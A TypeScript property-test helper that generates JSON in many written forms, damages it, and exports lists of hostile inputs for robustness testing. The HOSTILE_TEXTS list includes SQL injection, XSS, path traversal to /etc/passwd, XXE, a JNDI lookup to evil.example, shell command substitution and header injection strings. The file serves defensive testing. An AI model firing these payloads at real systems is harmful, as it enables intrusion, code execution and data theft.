import * as fc from 'fast-check';

/** White space that JSON allows between its parts (RFC 8259, 2). */
const space = fc.stringMatching(/^[ \t\n\r]{0,3}$/);

/** A character in each of the forms that JSON has for it. One beyond U+FFFF is escaped in two halves, or not at all: half of it is no UTF-8. */
function characterForms(character: string): readonly string[] {
  if (character.length === 2) return [character, character.split('').map((half) => `\\u${half.charCodeAt(0).toString(16)}`).join('')];
  const unit = character;
  const code = unit.charCodeAt(0).toString(16).padStart(4, '0');
  const short = { '"': '\\"', '\\': '\\\\', '/': '\\/', '\b': '\\b', '\f': '\\f', '\n': '\\n', '\r': '\\r', '\t': '\\t' }[unit];
  const plain = unit >= ' ' && unit !== '"' && unit !== '\\' ? [unit, unit, unit] : [];
  return [...plain, ...(short === undefined ? [] : [short]), `\\u${code}`, `\\u${code.toUpperCase()}`];
}

/** A text as JSON, each character in a form of its own. */
export function writtenText(text: string): fc.Arbitrary<string> {
  const forms = Array.from(text, (character) => fc.constantFrom(...characterForms(character)));
  return fc.tuple(...forms).map((parts) => `"${parts.join('')}"`);
}

/** A whole number from 1 to 5 in a form that means it exactly. */
export function writtenNumber(value: number): fc.Arbitrary<string> {
  return fc.constantFrom(String(value), `${value}.0`, `${value}.000`, `${value}e0`, `${value}E+0`, `${value}0e-1`, `0.${value}e1`, `${value}00E-02`);
}

/** An object as JSON: its members in any order, with white space wherever it may stand. */
export function writtenObject(members: Readonly<Record<string, fc.Arbitrary<string>>>): fc.Arbitrary<string> {
  const pairs = Object.entries(members).map(([name, value]) => fc.tuple(space, writtenText(name), space, space, value, space).map(([a, key, b, c, text, d]) => `${a}${key}${b}:${c}${text}${d}`));
  return fc.tuple(space, fc.shuffledSubarray(pairs, { minLength: pairs.length }).chain((all) => fc.tuple(...all)), space).map(([before, parts, after]) => `${before}{${parts.join(',')}}${after}`);
}

/** Characters that break a JSON text almost anywhere. */
const DAMAGE = '{}[]",:\\\'/*0+-.eE#\0\u001f\uFEFF\u00a0\u2028'.split('');

/** Ways to break a JSON text, each in one place. Some leave it whole: the caller asks `JSON.parse`. */
export function damaged(text: string): fc.Arbitrary<string> {
  const at = fc.nat(text.length);
  return fc.oneof(
    at.map((place) => text.slice(0, place)),
    at.map((place) => text.slice(0, place) + text.slice(place + 1)),
    fc.tuple(at, fc.constantFrom(...DAMAGE, '//', '/**/', 'NaN', 'undefined', 'Infinity', '0x1', 'True', '\\x41', '\\u12', '\\u{41}', ',,', '""')).map(([place, added]) => text.slice(0, place) + added + text.slice(place)),
    fc.constantFrom(`${text}${text}`, `${text},`, `[${text}`, `${text}]`, `(${text})`, `x=${text}`, `${text};`, `\uFEFF${text}`, text.replaceAll('"', "'"), text.replace('{', '{,'), text.replace('}', ',}')),
  );
}

/** Texts that have broken something somewhere. */
export const HOSTILE_TEXTS = [
  '', ' ', '\0', '\u0007', '\u001b[31m', '\r\nSet-Cookie: a=b', '\u2028', '\u202e\u2066', '\u200b', '\ufeff', '\ufffd', '\u{1F9A6}', 'e\u0301', '\ud83d', '\udc00', 'a\ud800b',
  '__proto__', 'constructor', 'toString', 'null', 'undefined', 'true', '0', 'NaN', '[object Object]', '{{7*7}}', '${7*7}', '#{7*7}', '%s%n%x', '%00', '../../etc/passwd', 'file:///etc/passwd',
  "'; DROP TABLE heads; --", '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '&lt;', ']]>', '<!ENTITY x SYSTEM "file:///x">', '${jndi:ldap://evil.example/a}', '|| true', '`id`', '$(id)',
  'HEAD', 'TURN#000001', 'IDEM#', 'OUTBOX#', 'data: x\n\nevent: reply', '{"text":"x"}', '\\', '\\u0000', '"', 'a'.repeat(64), 'a'.repeat(129), 'a'.repeat(5_000), '\u00e9'.repeat(2_001), 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
] as const;

/** JSON values of the wrong type or range, as text. */
export const HOSTILE_VALUES = [
  'null', 'true', 'false', '0', '-0', '-1', '6', '1.5', '1e999', '-1e999', '1e-999', '9007199254740993', '1e308', '123456789012345678901234567890', '0.1e1', '[]', '{}', '[[]]', '["5"]', '[5]', '{"length":5}', '{"toString":1}',
  '{"__proto__":{"a":1}}', '{"constructor":{"prototype":{}}}', '{"then":1}', `${'['.repeat(15_000)}${']'.repeat(15_000)}`, `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
] as const;
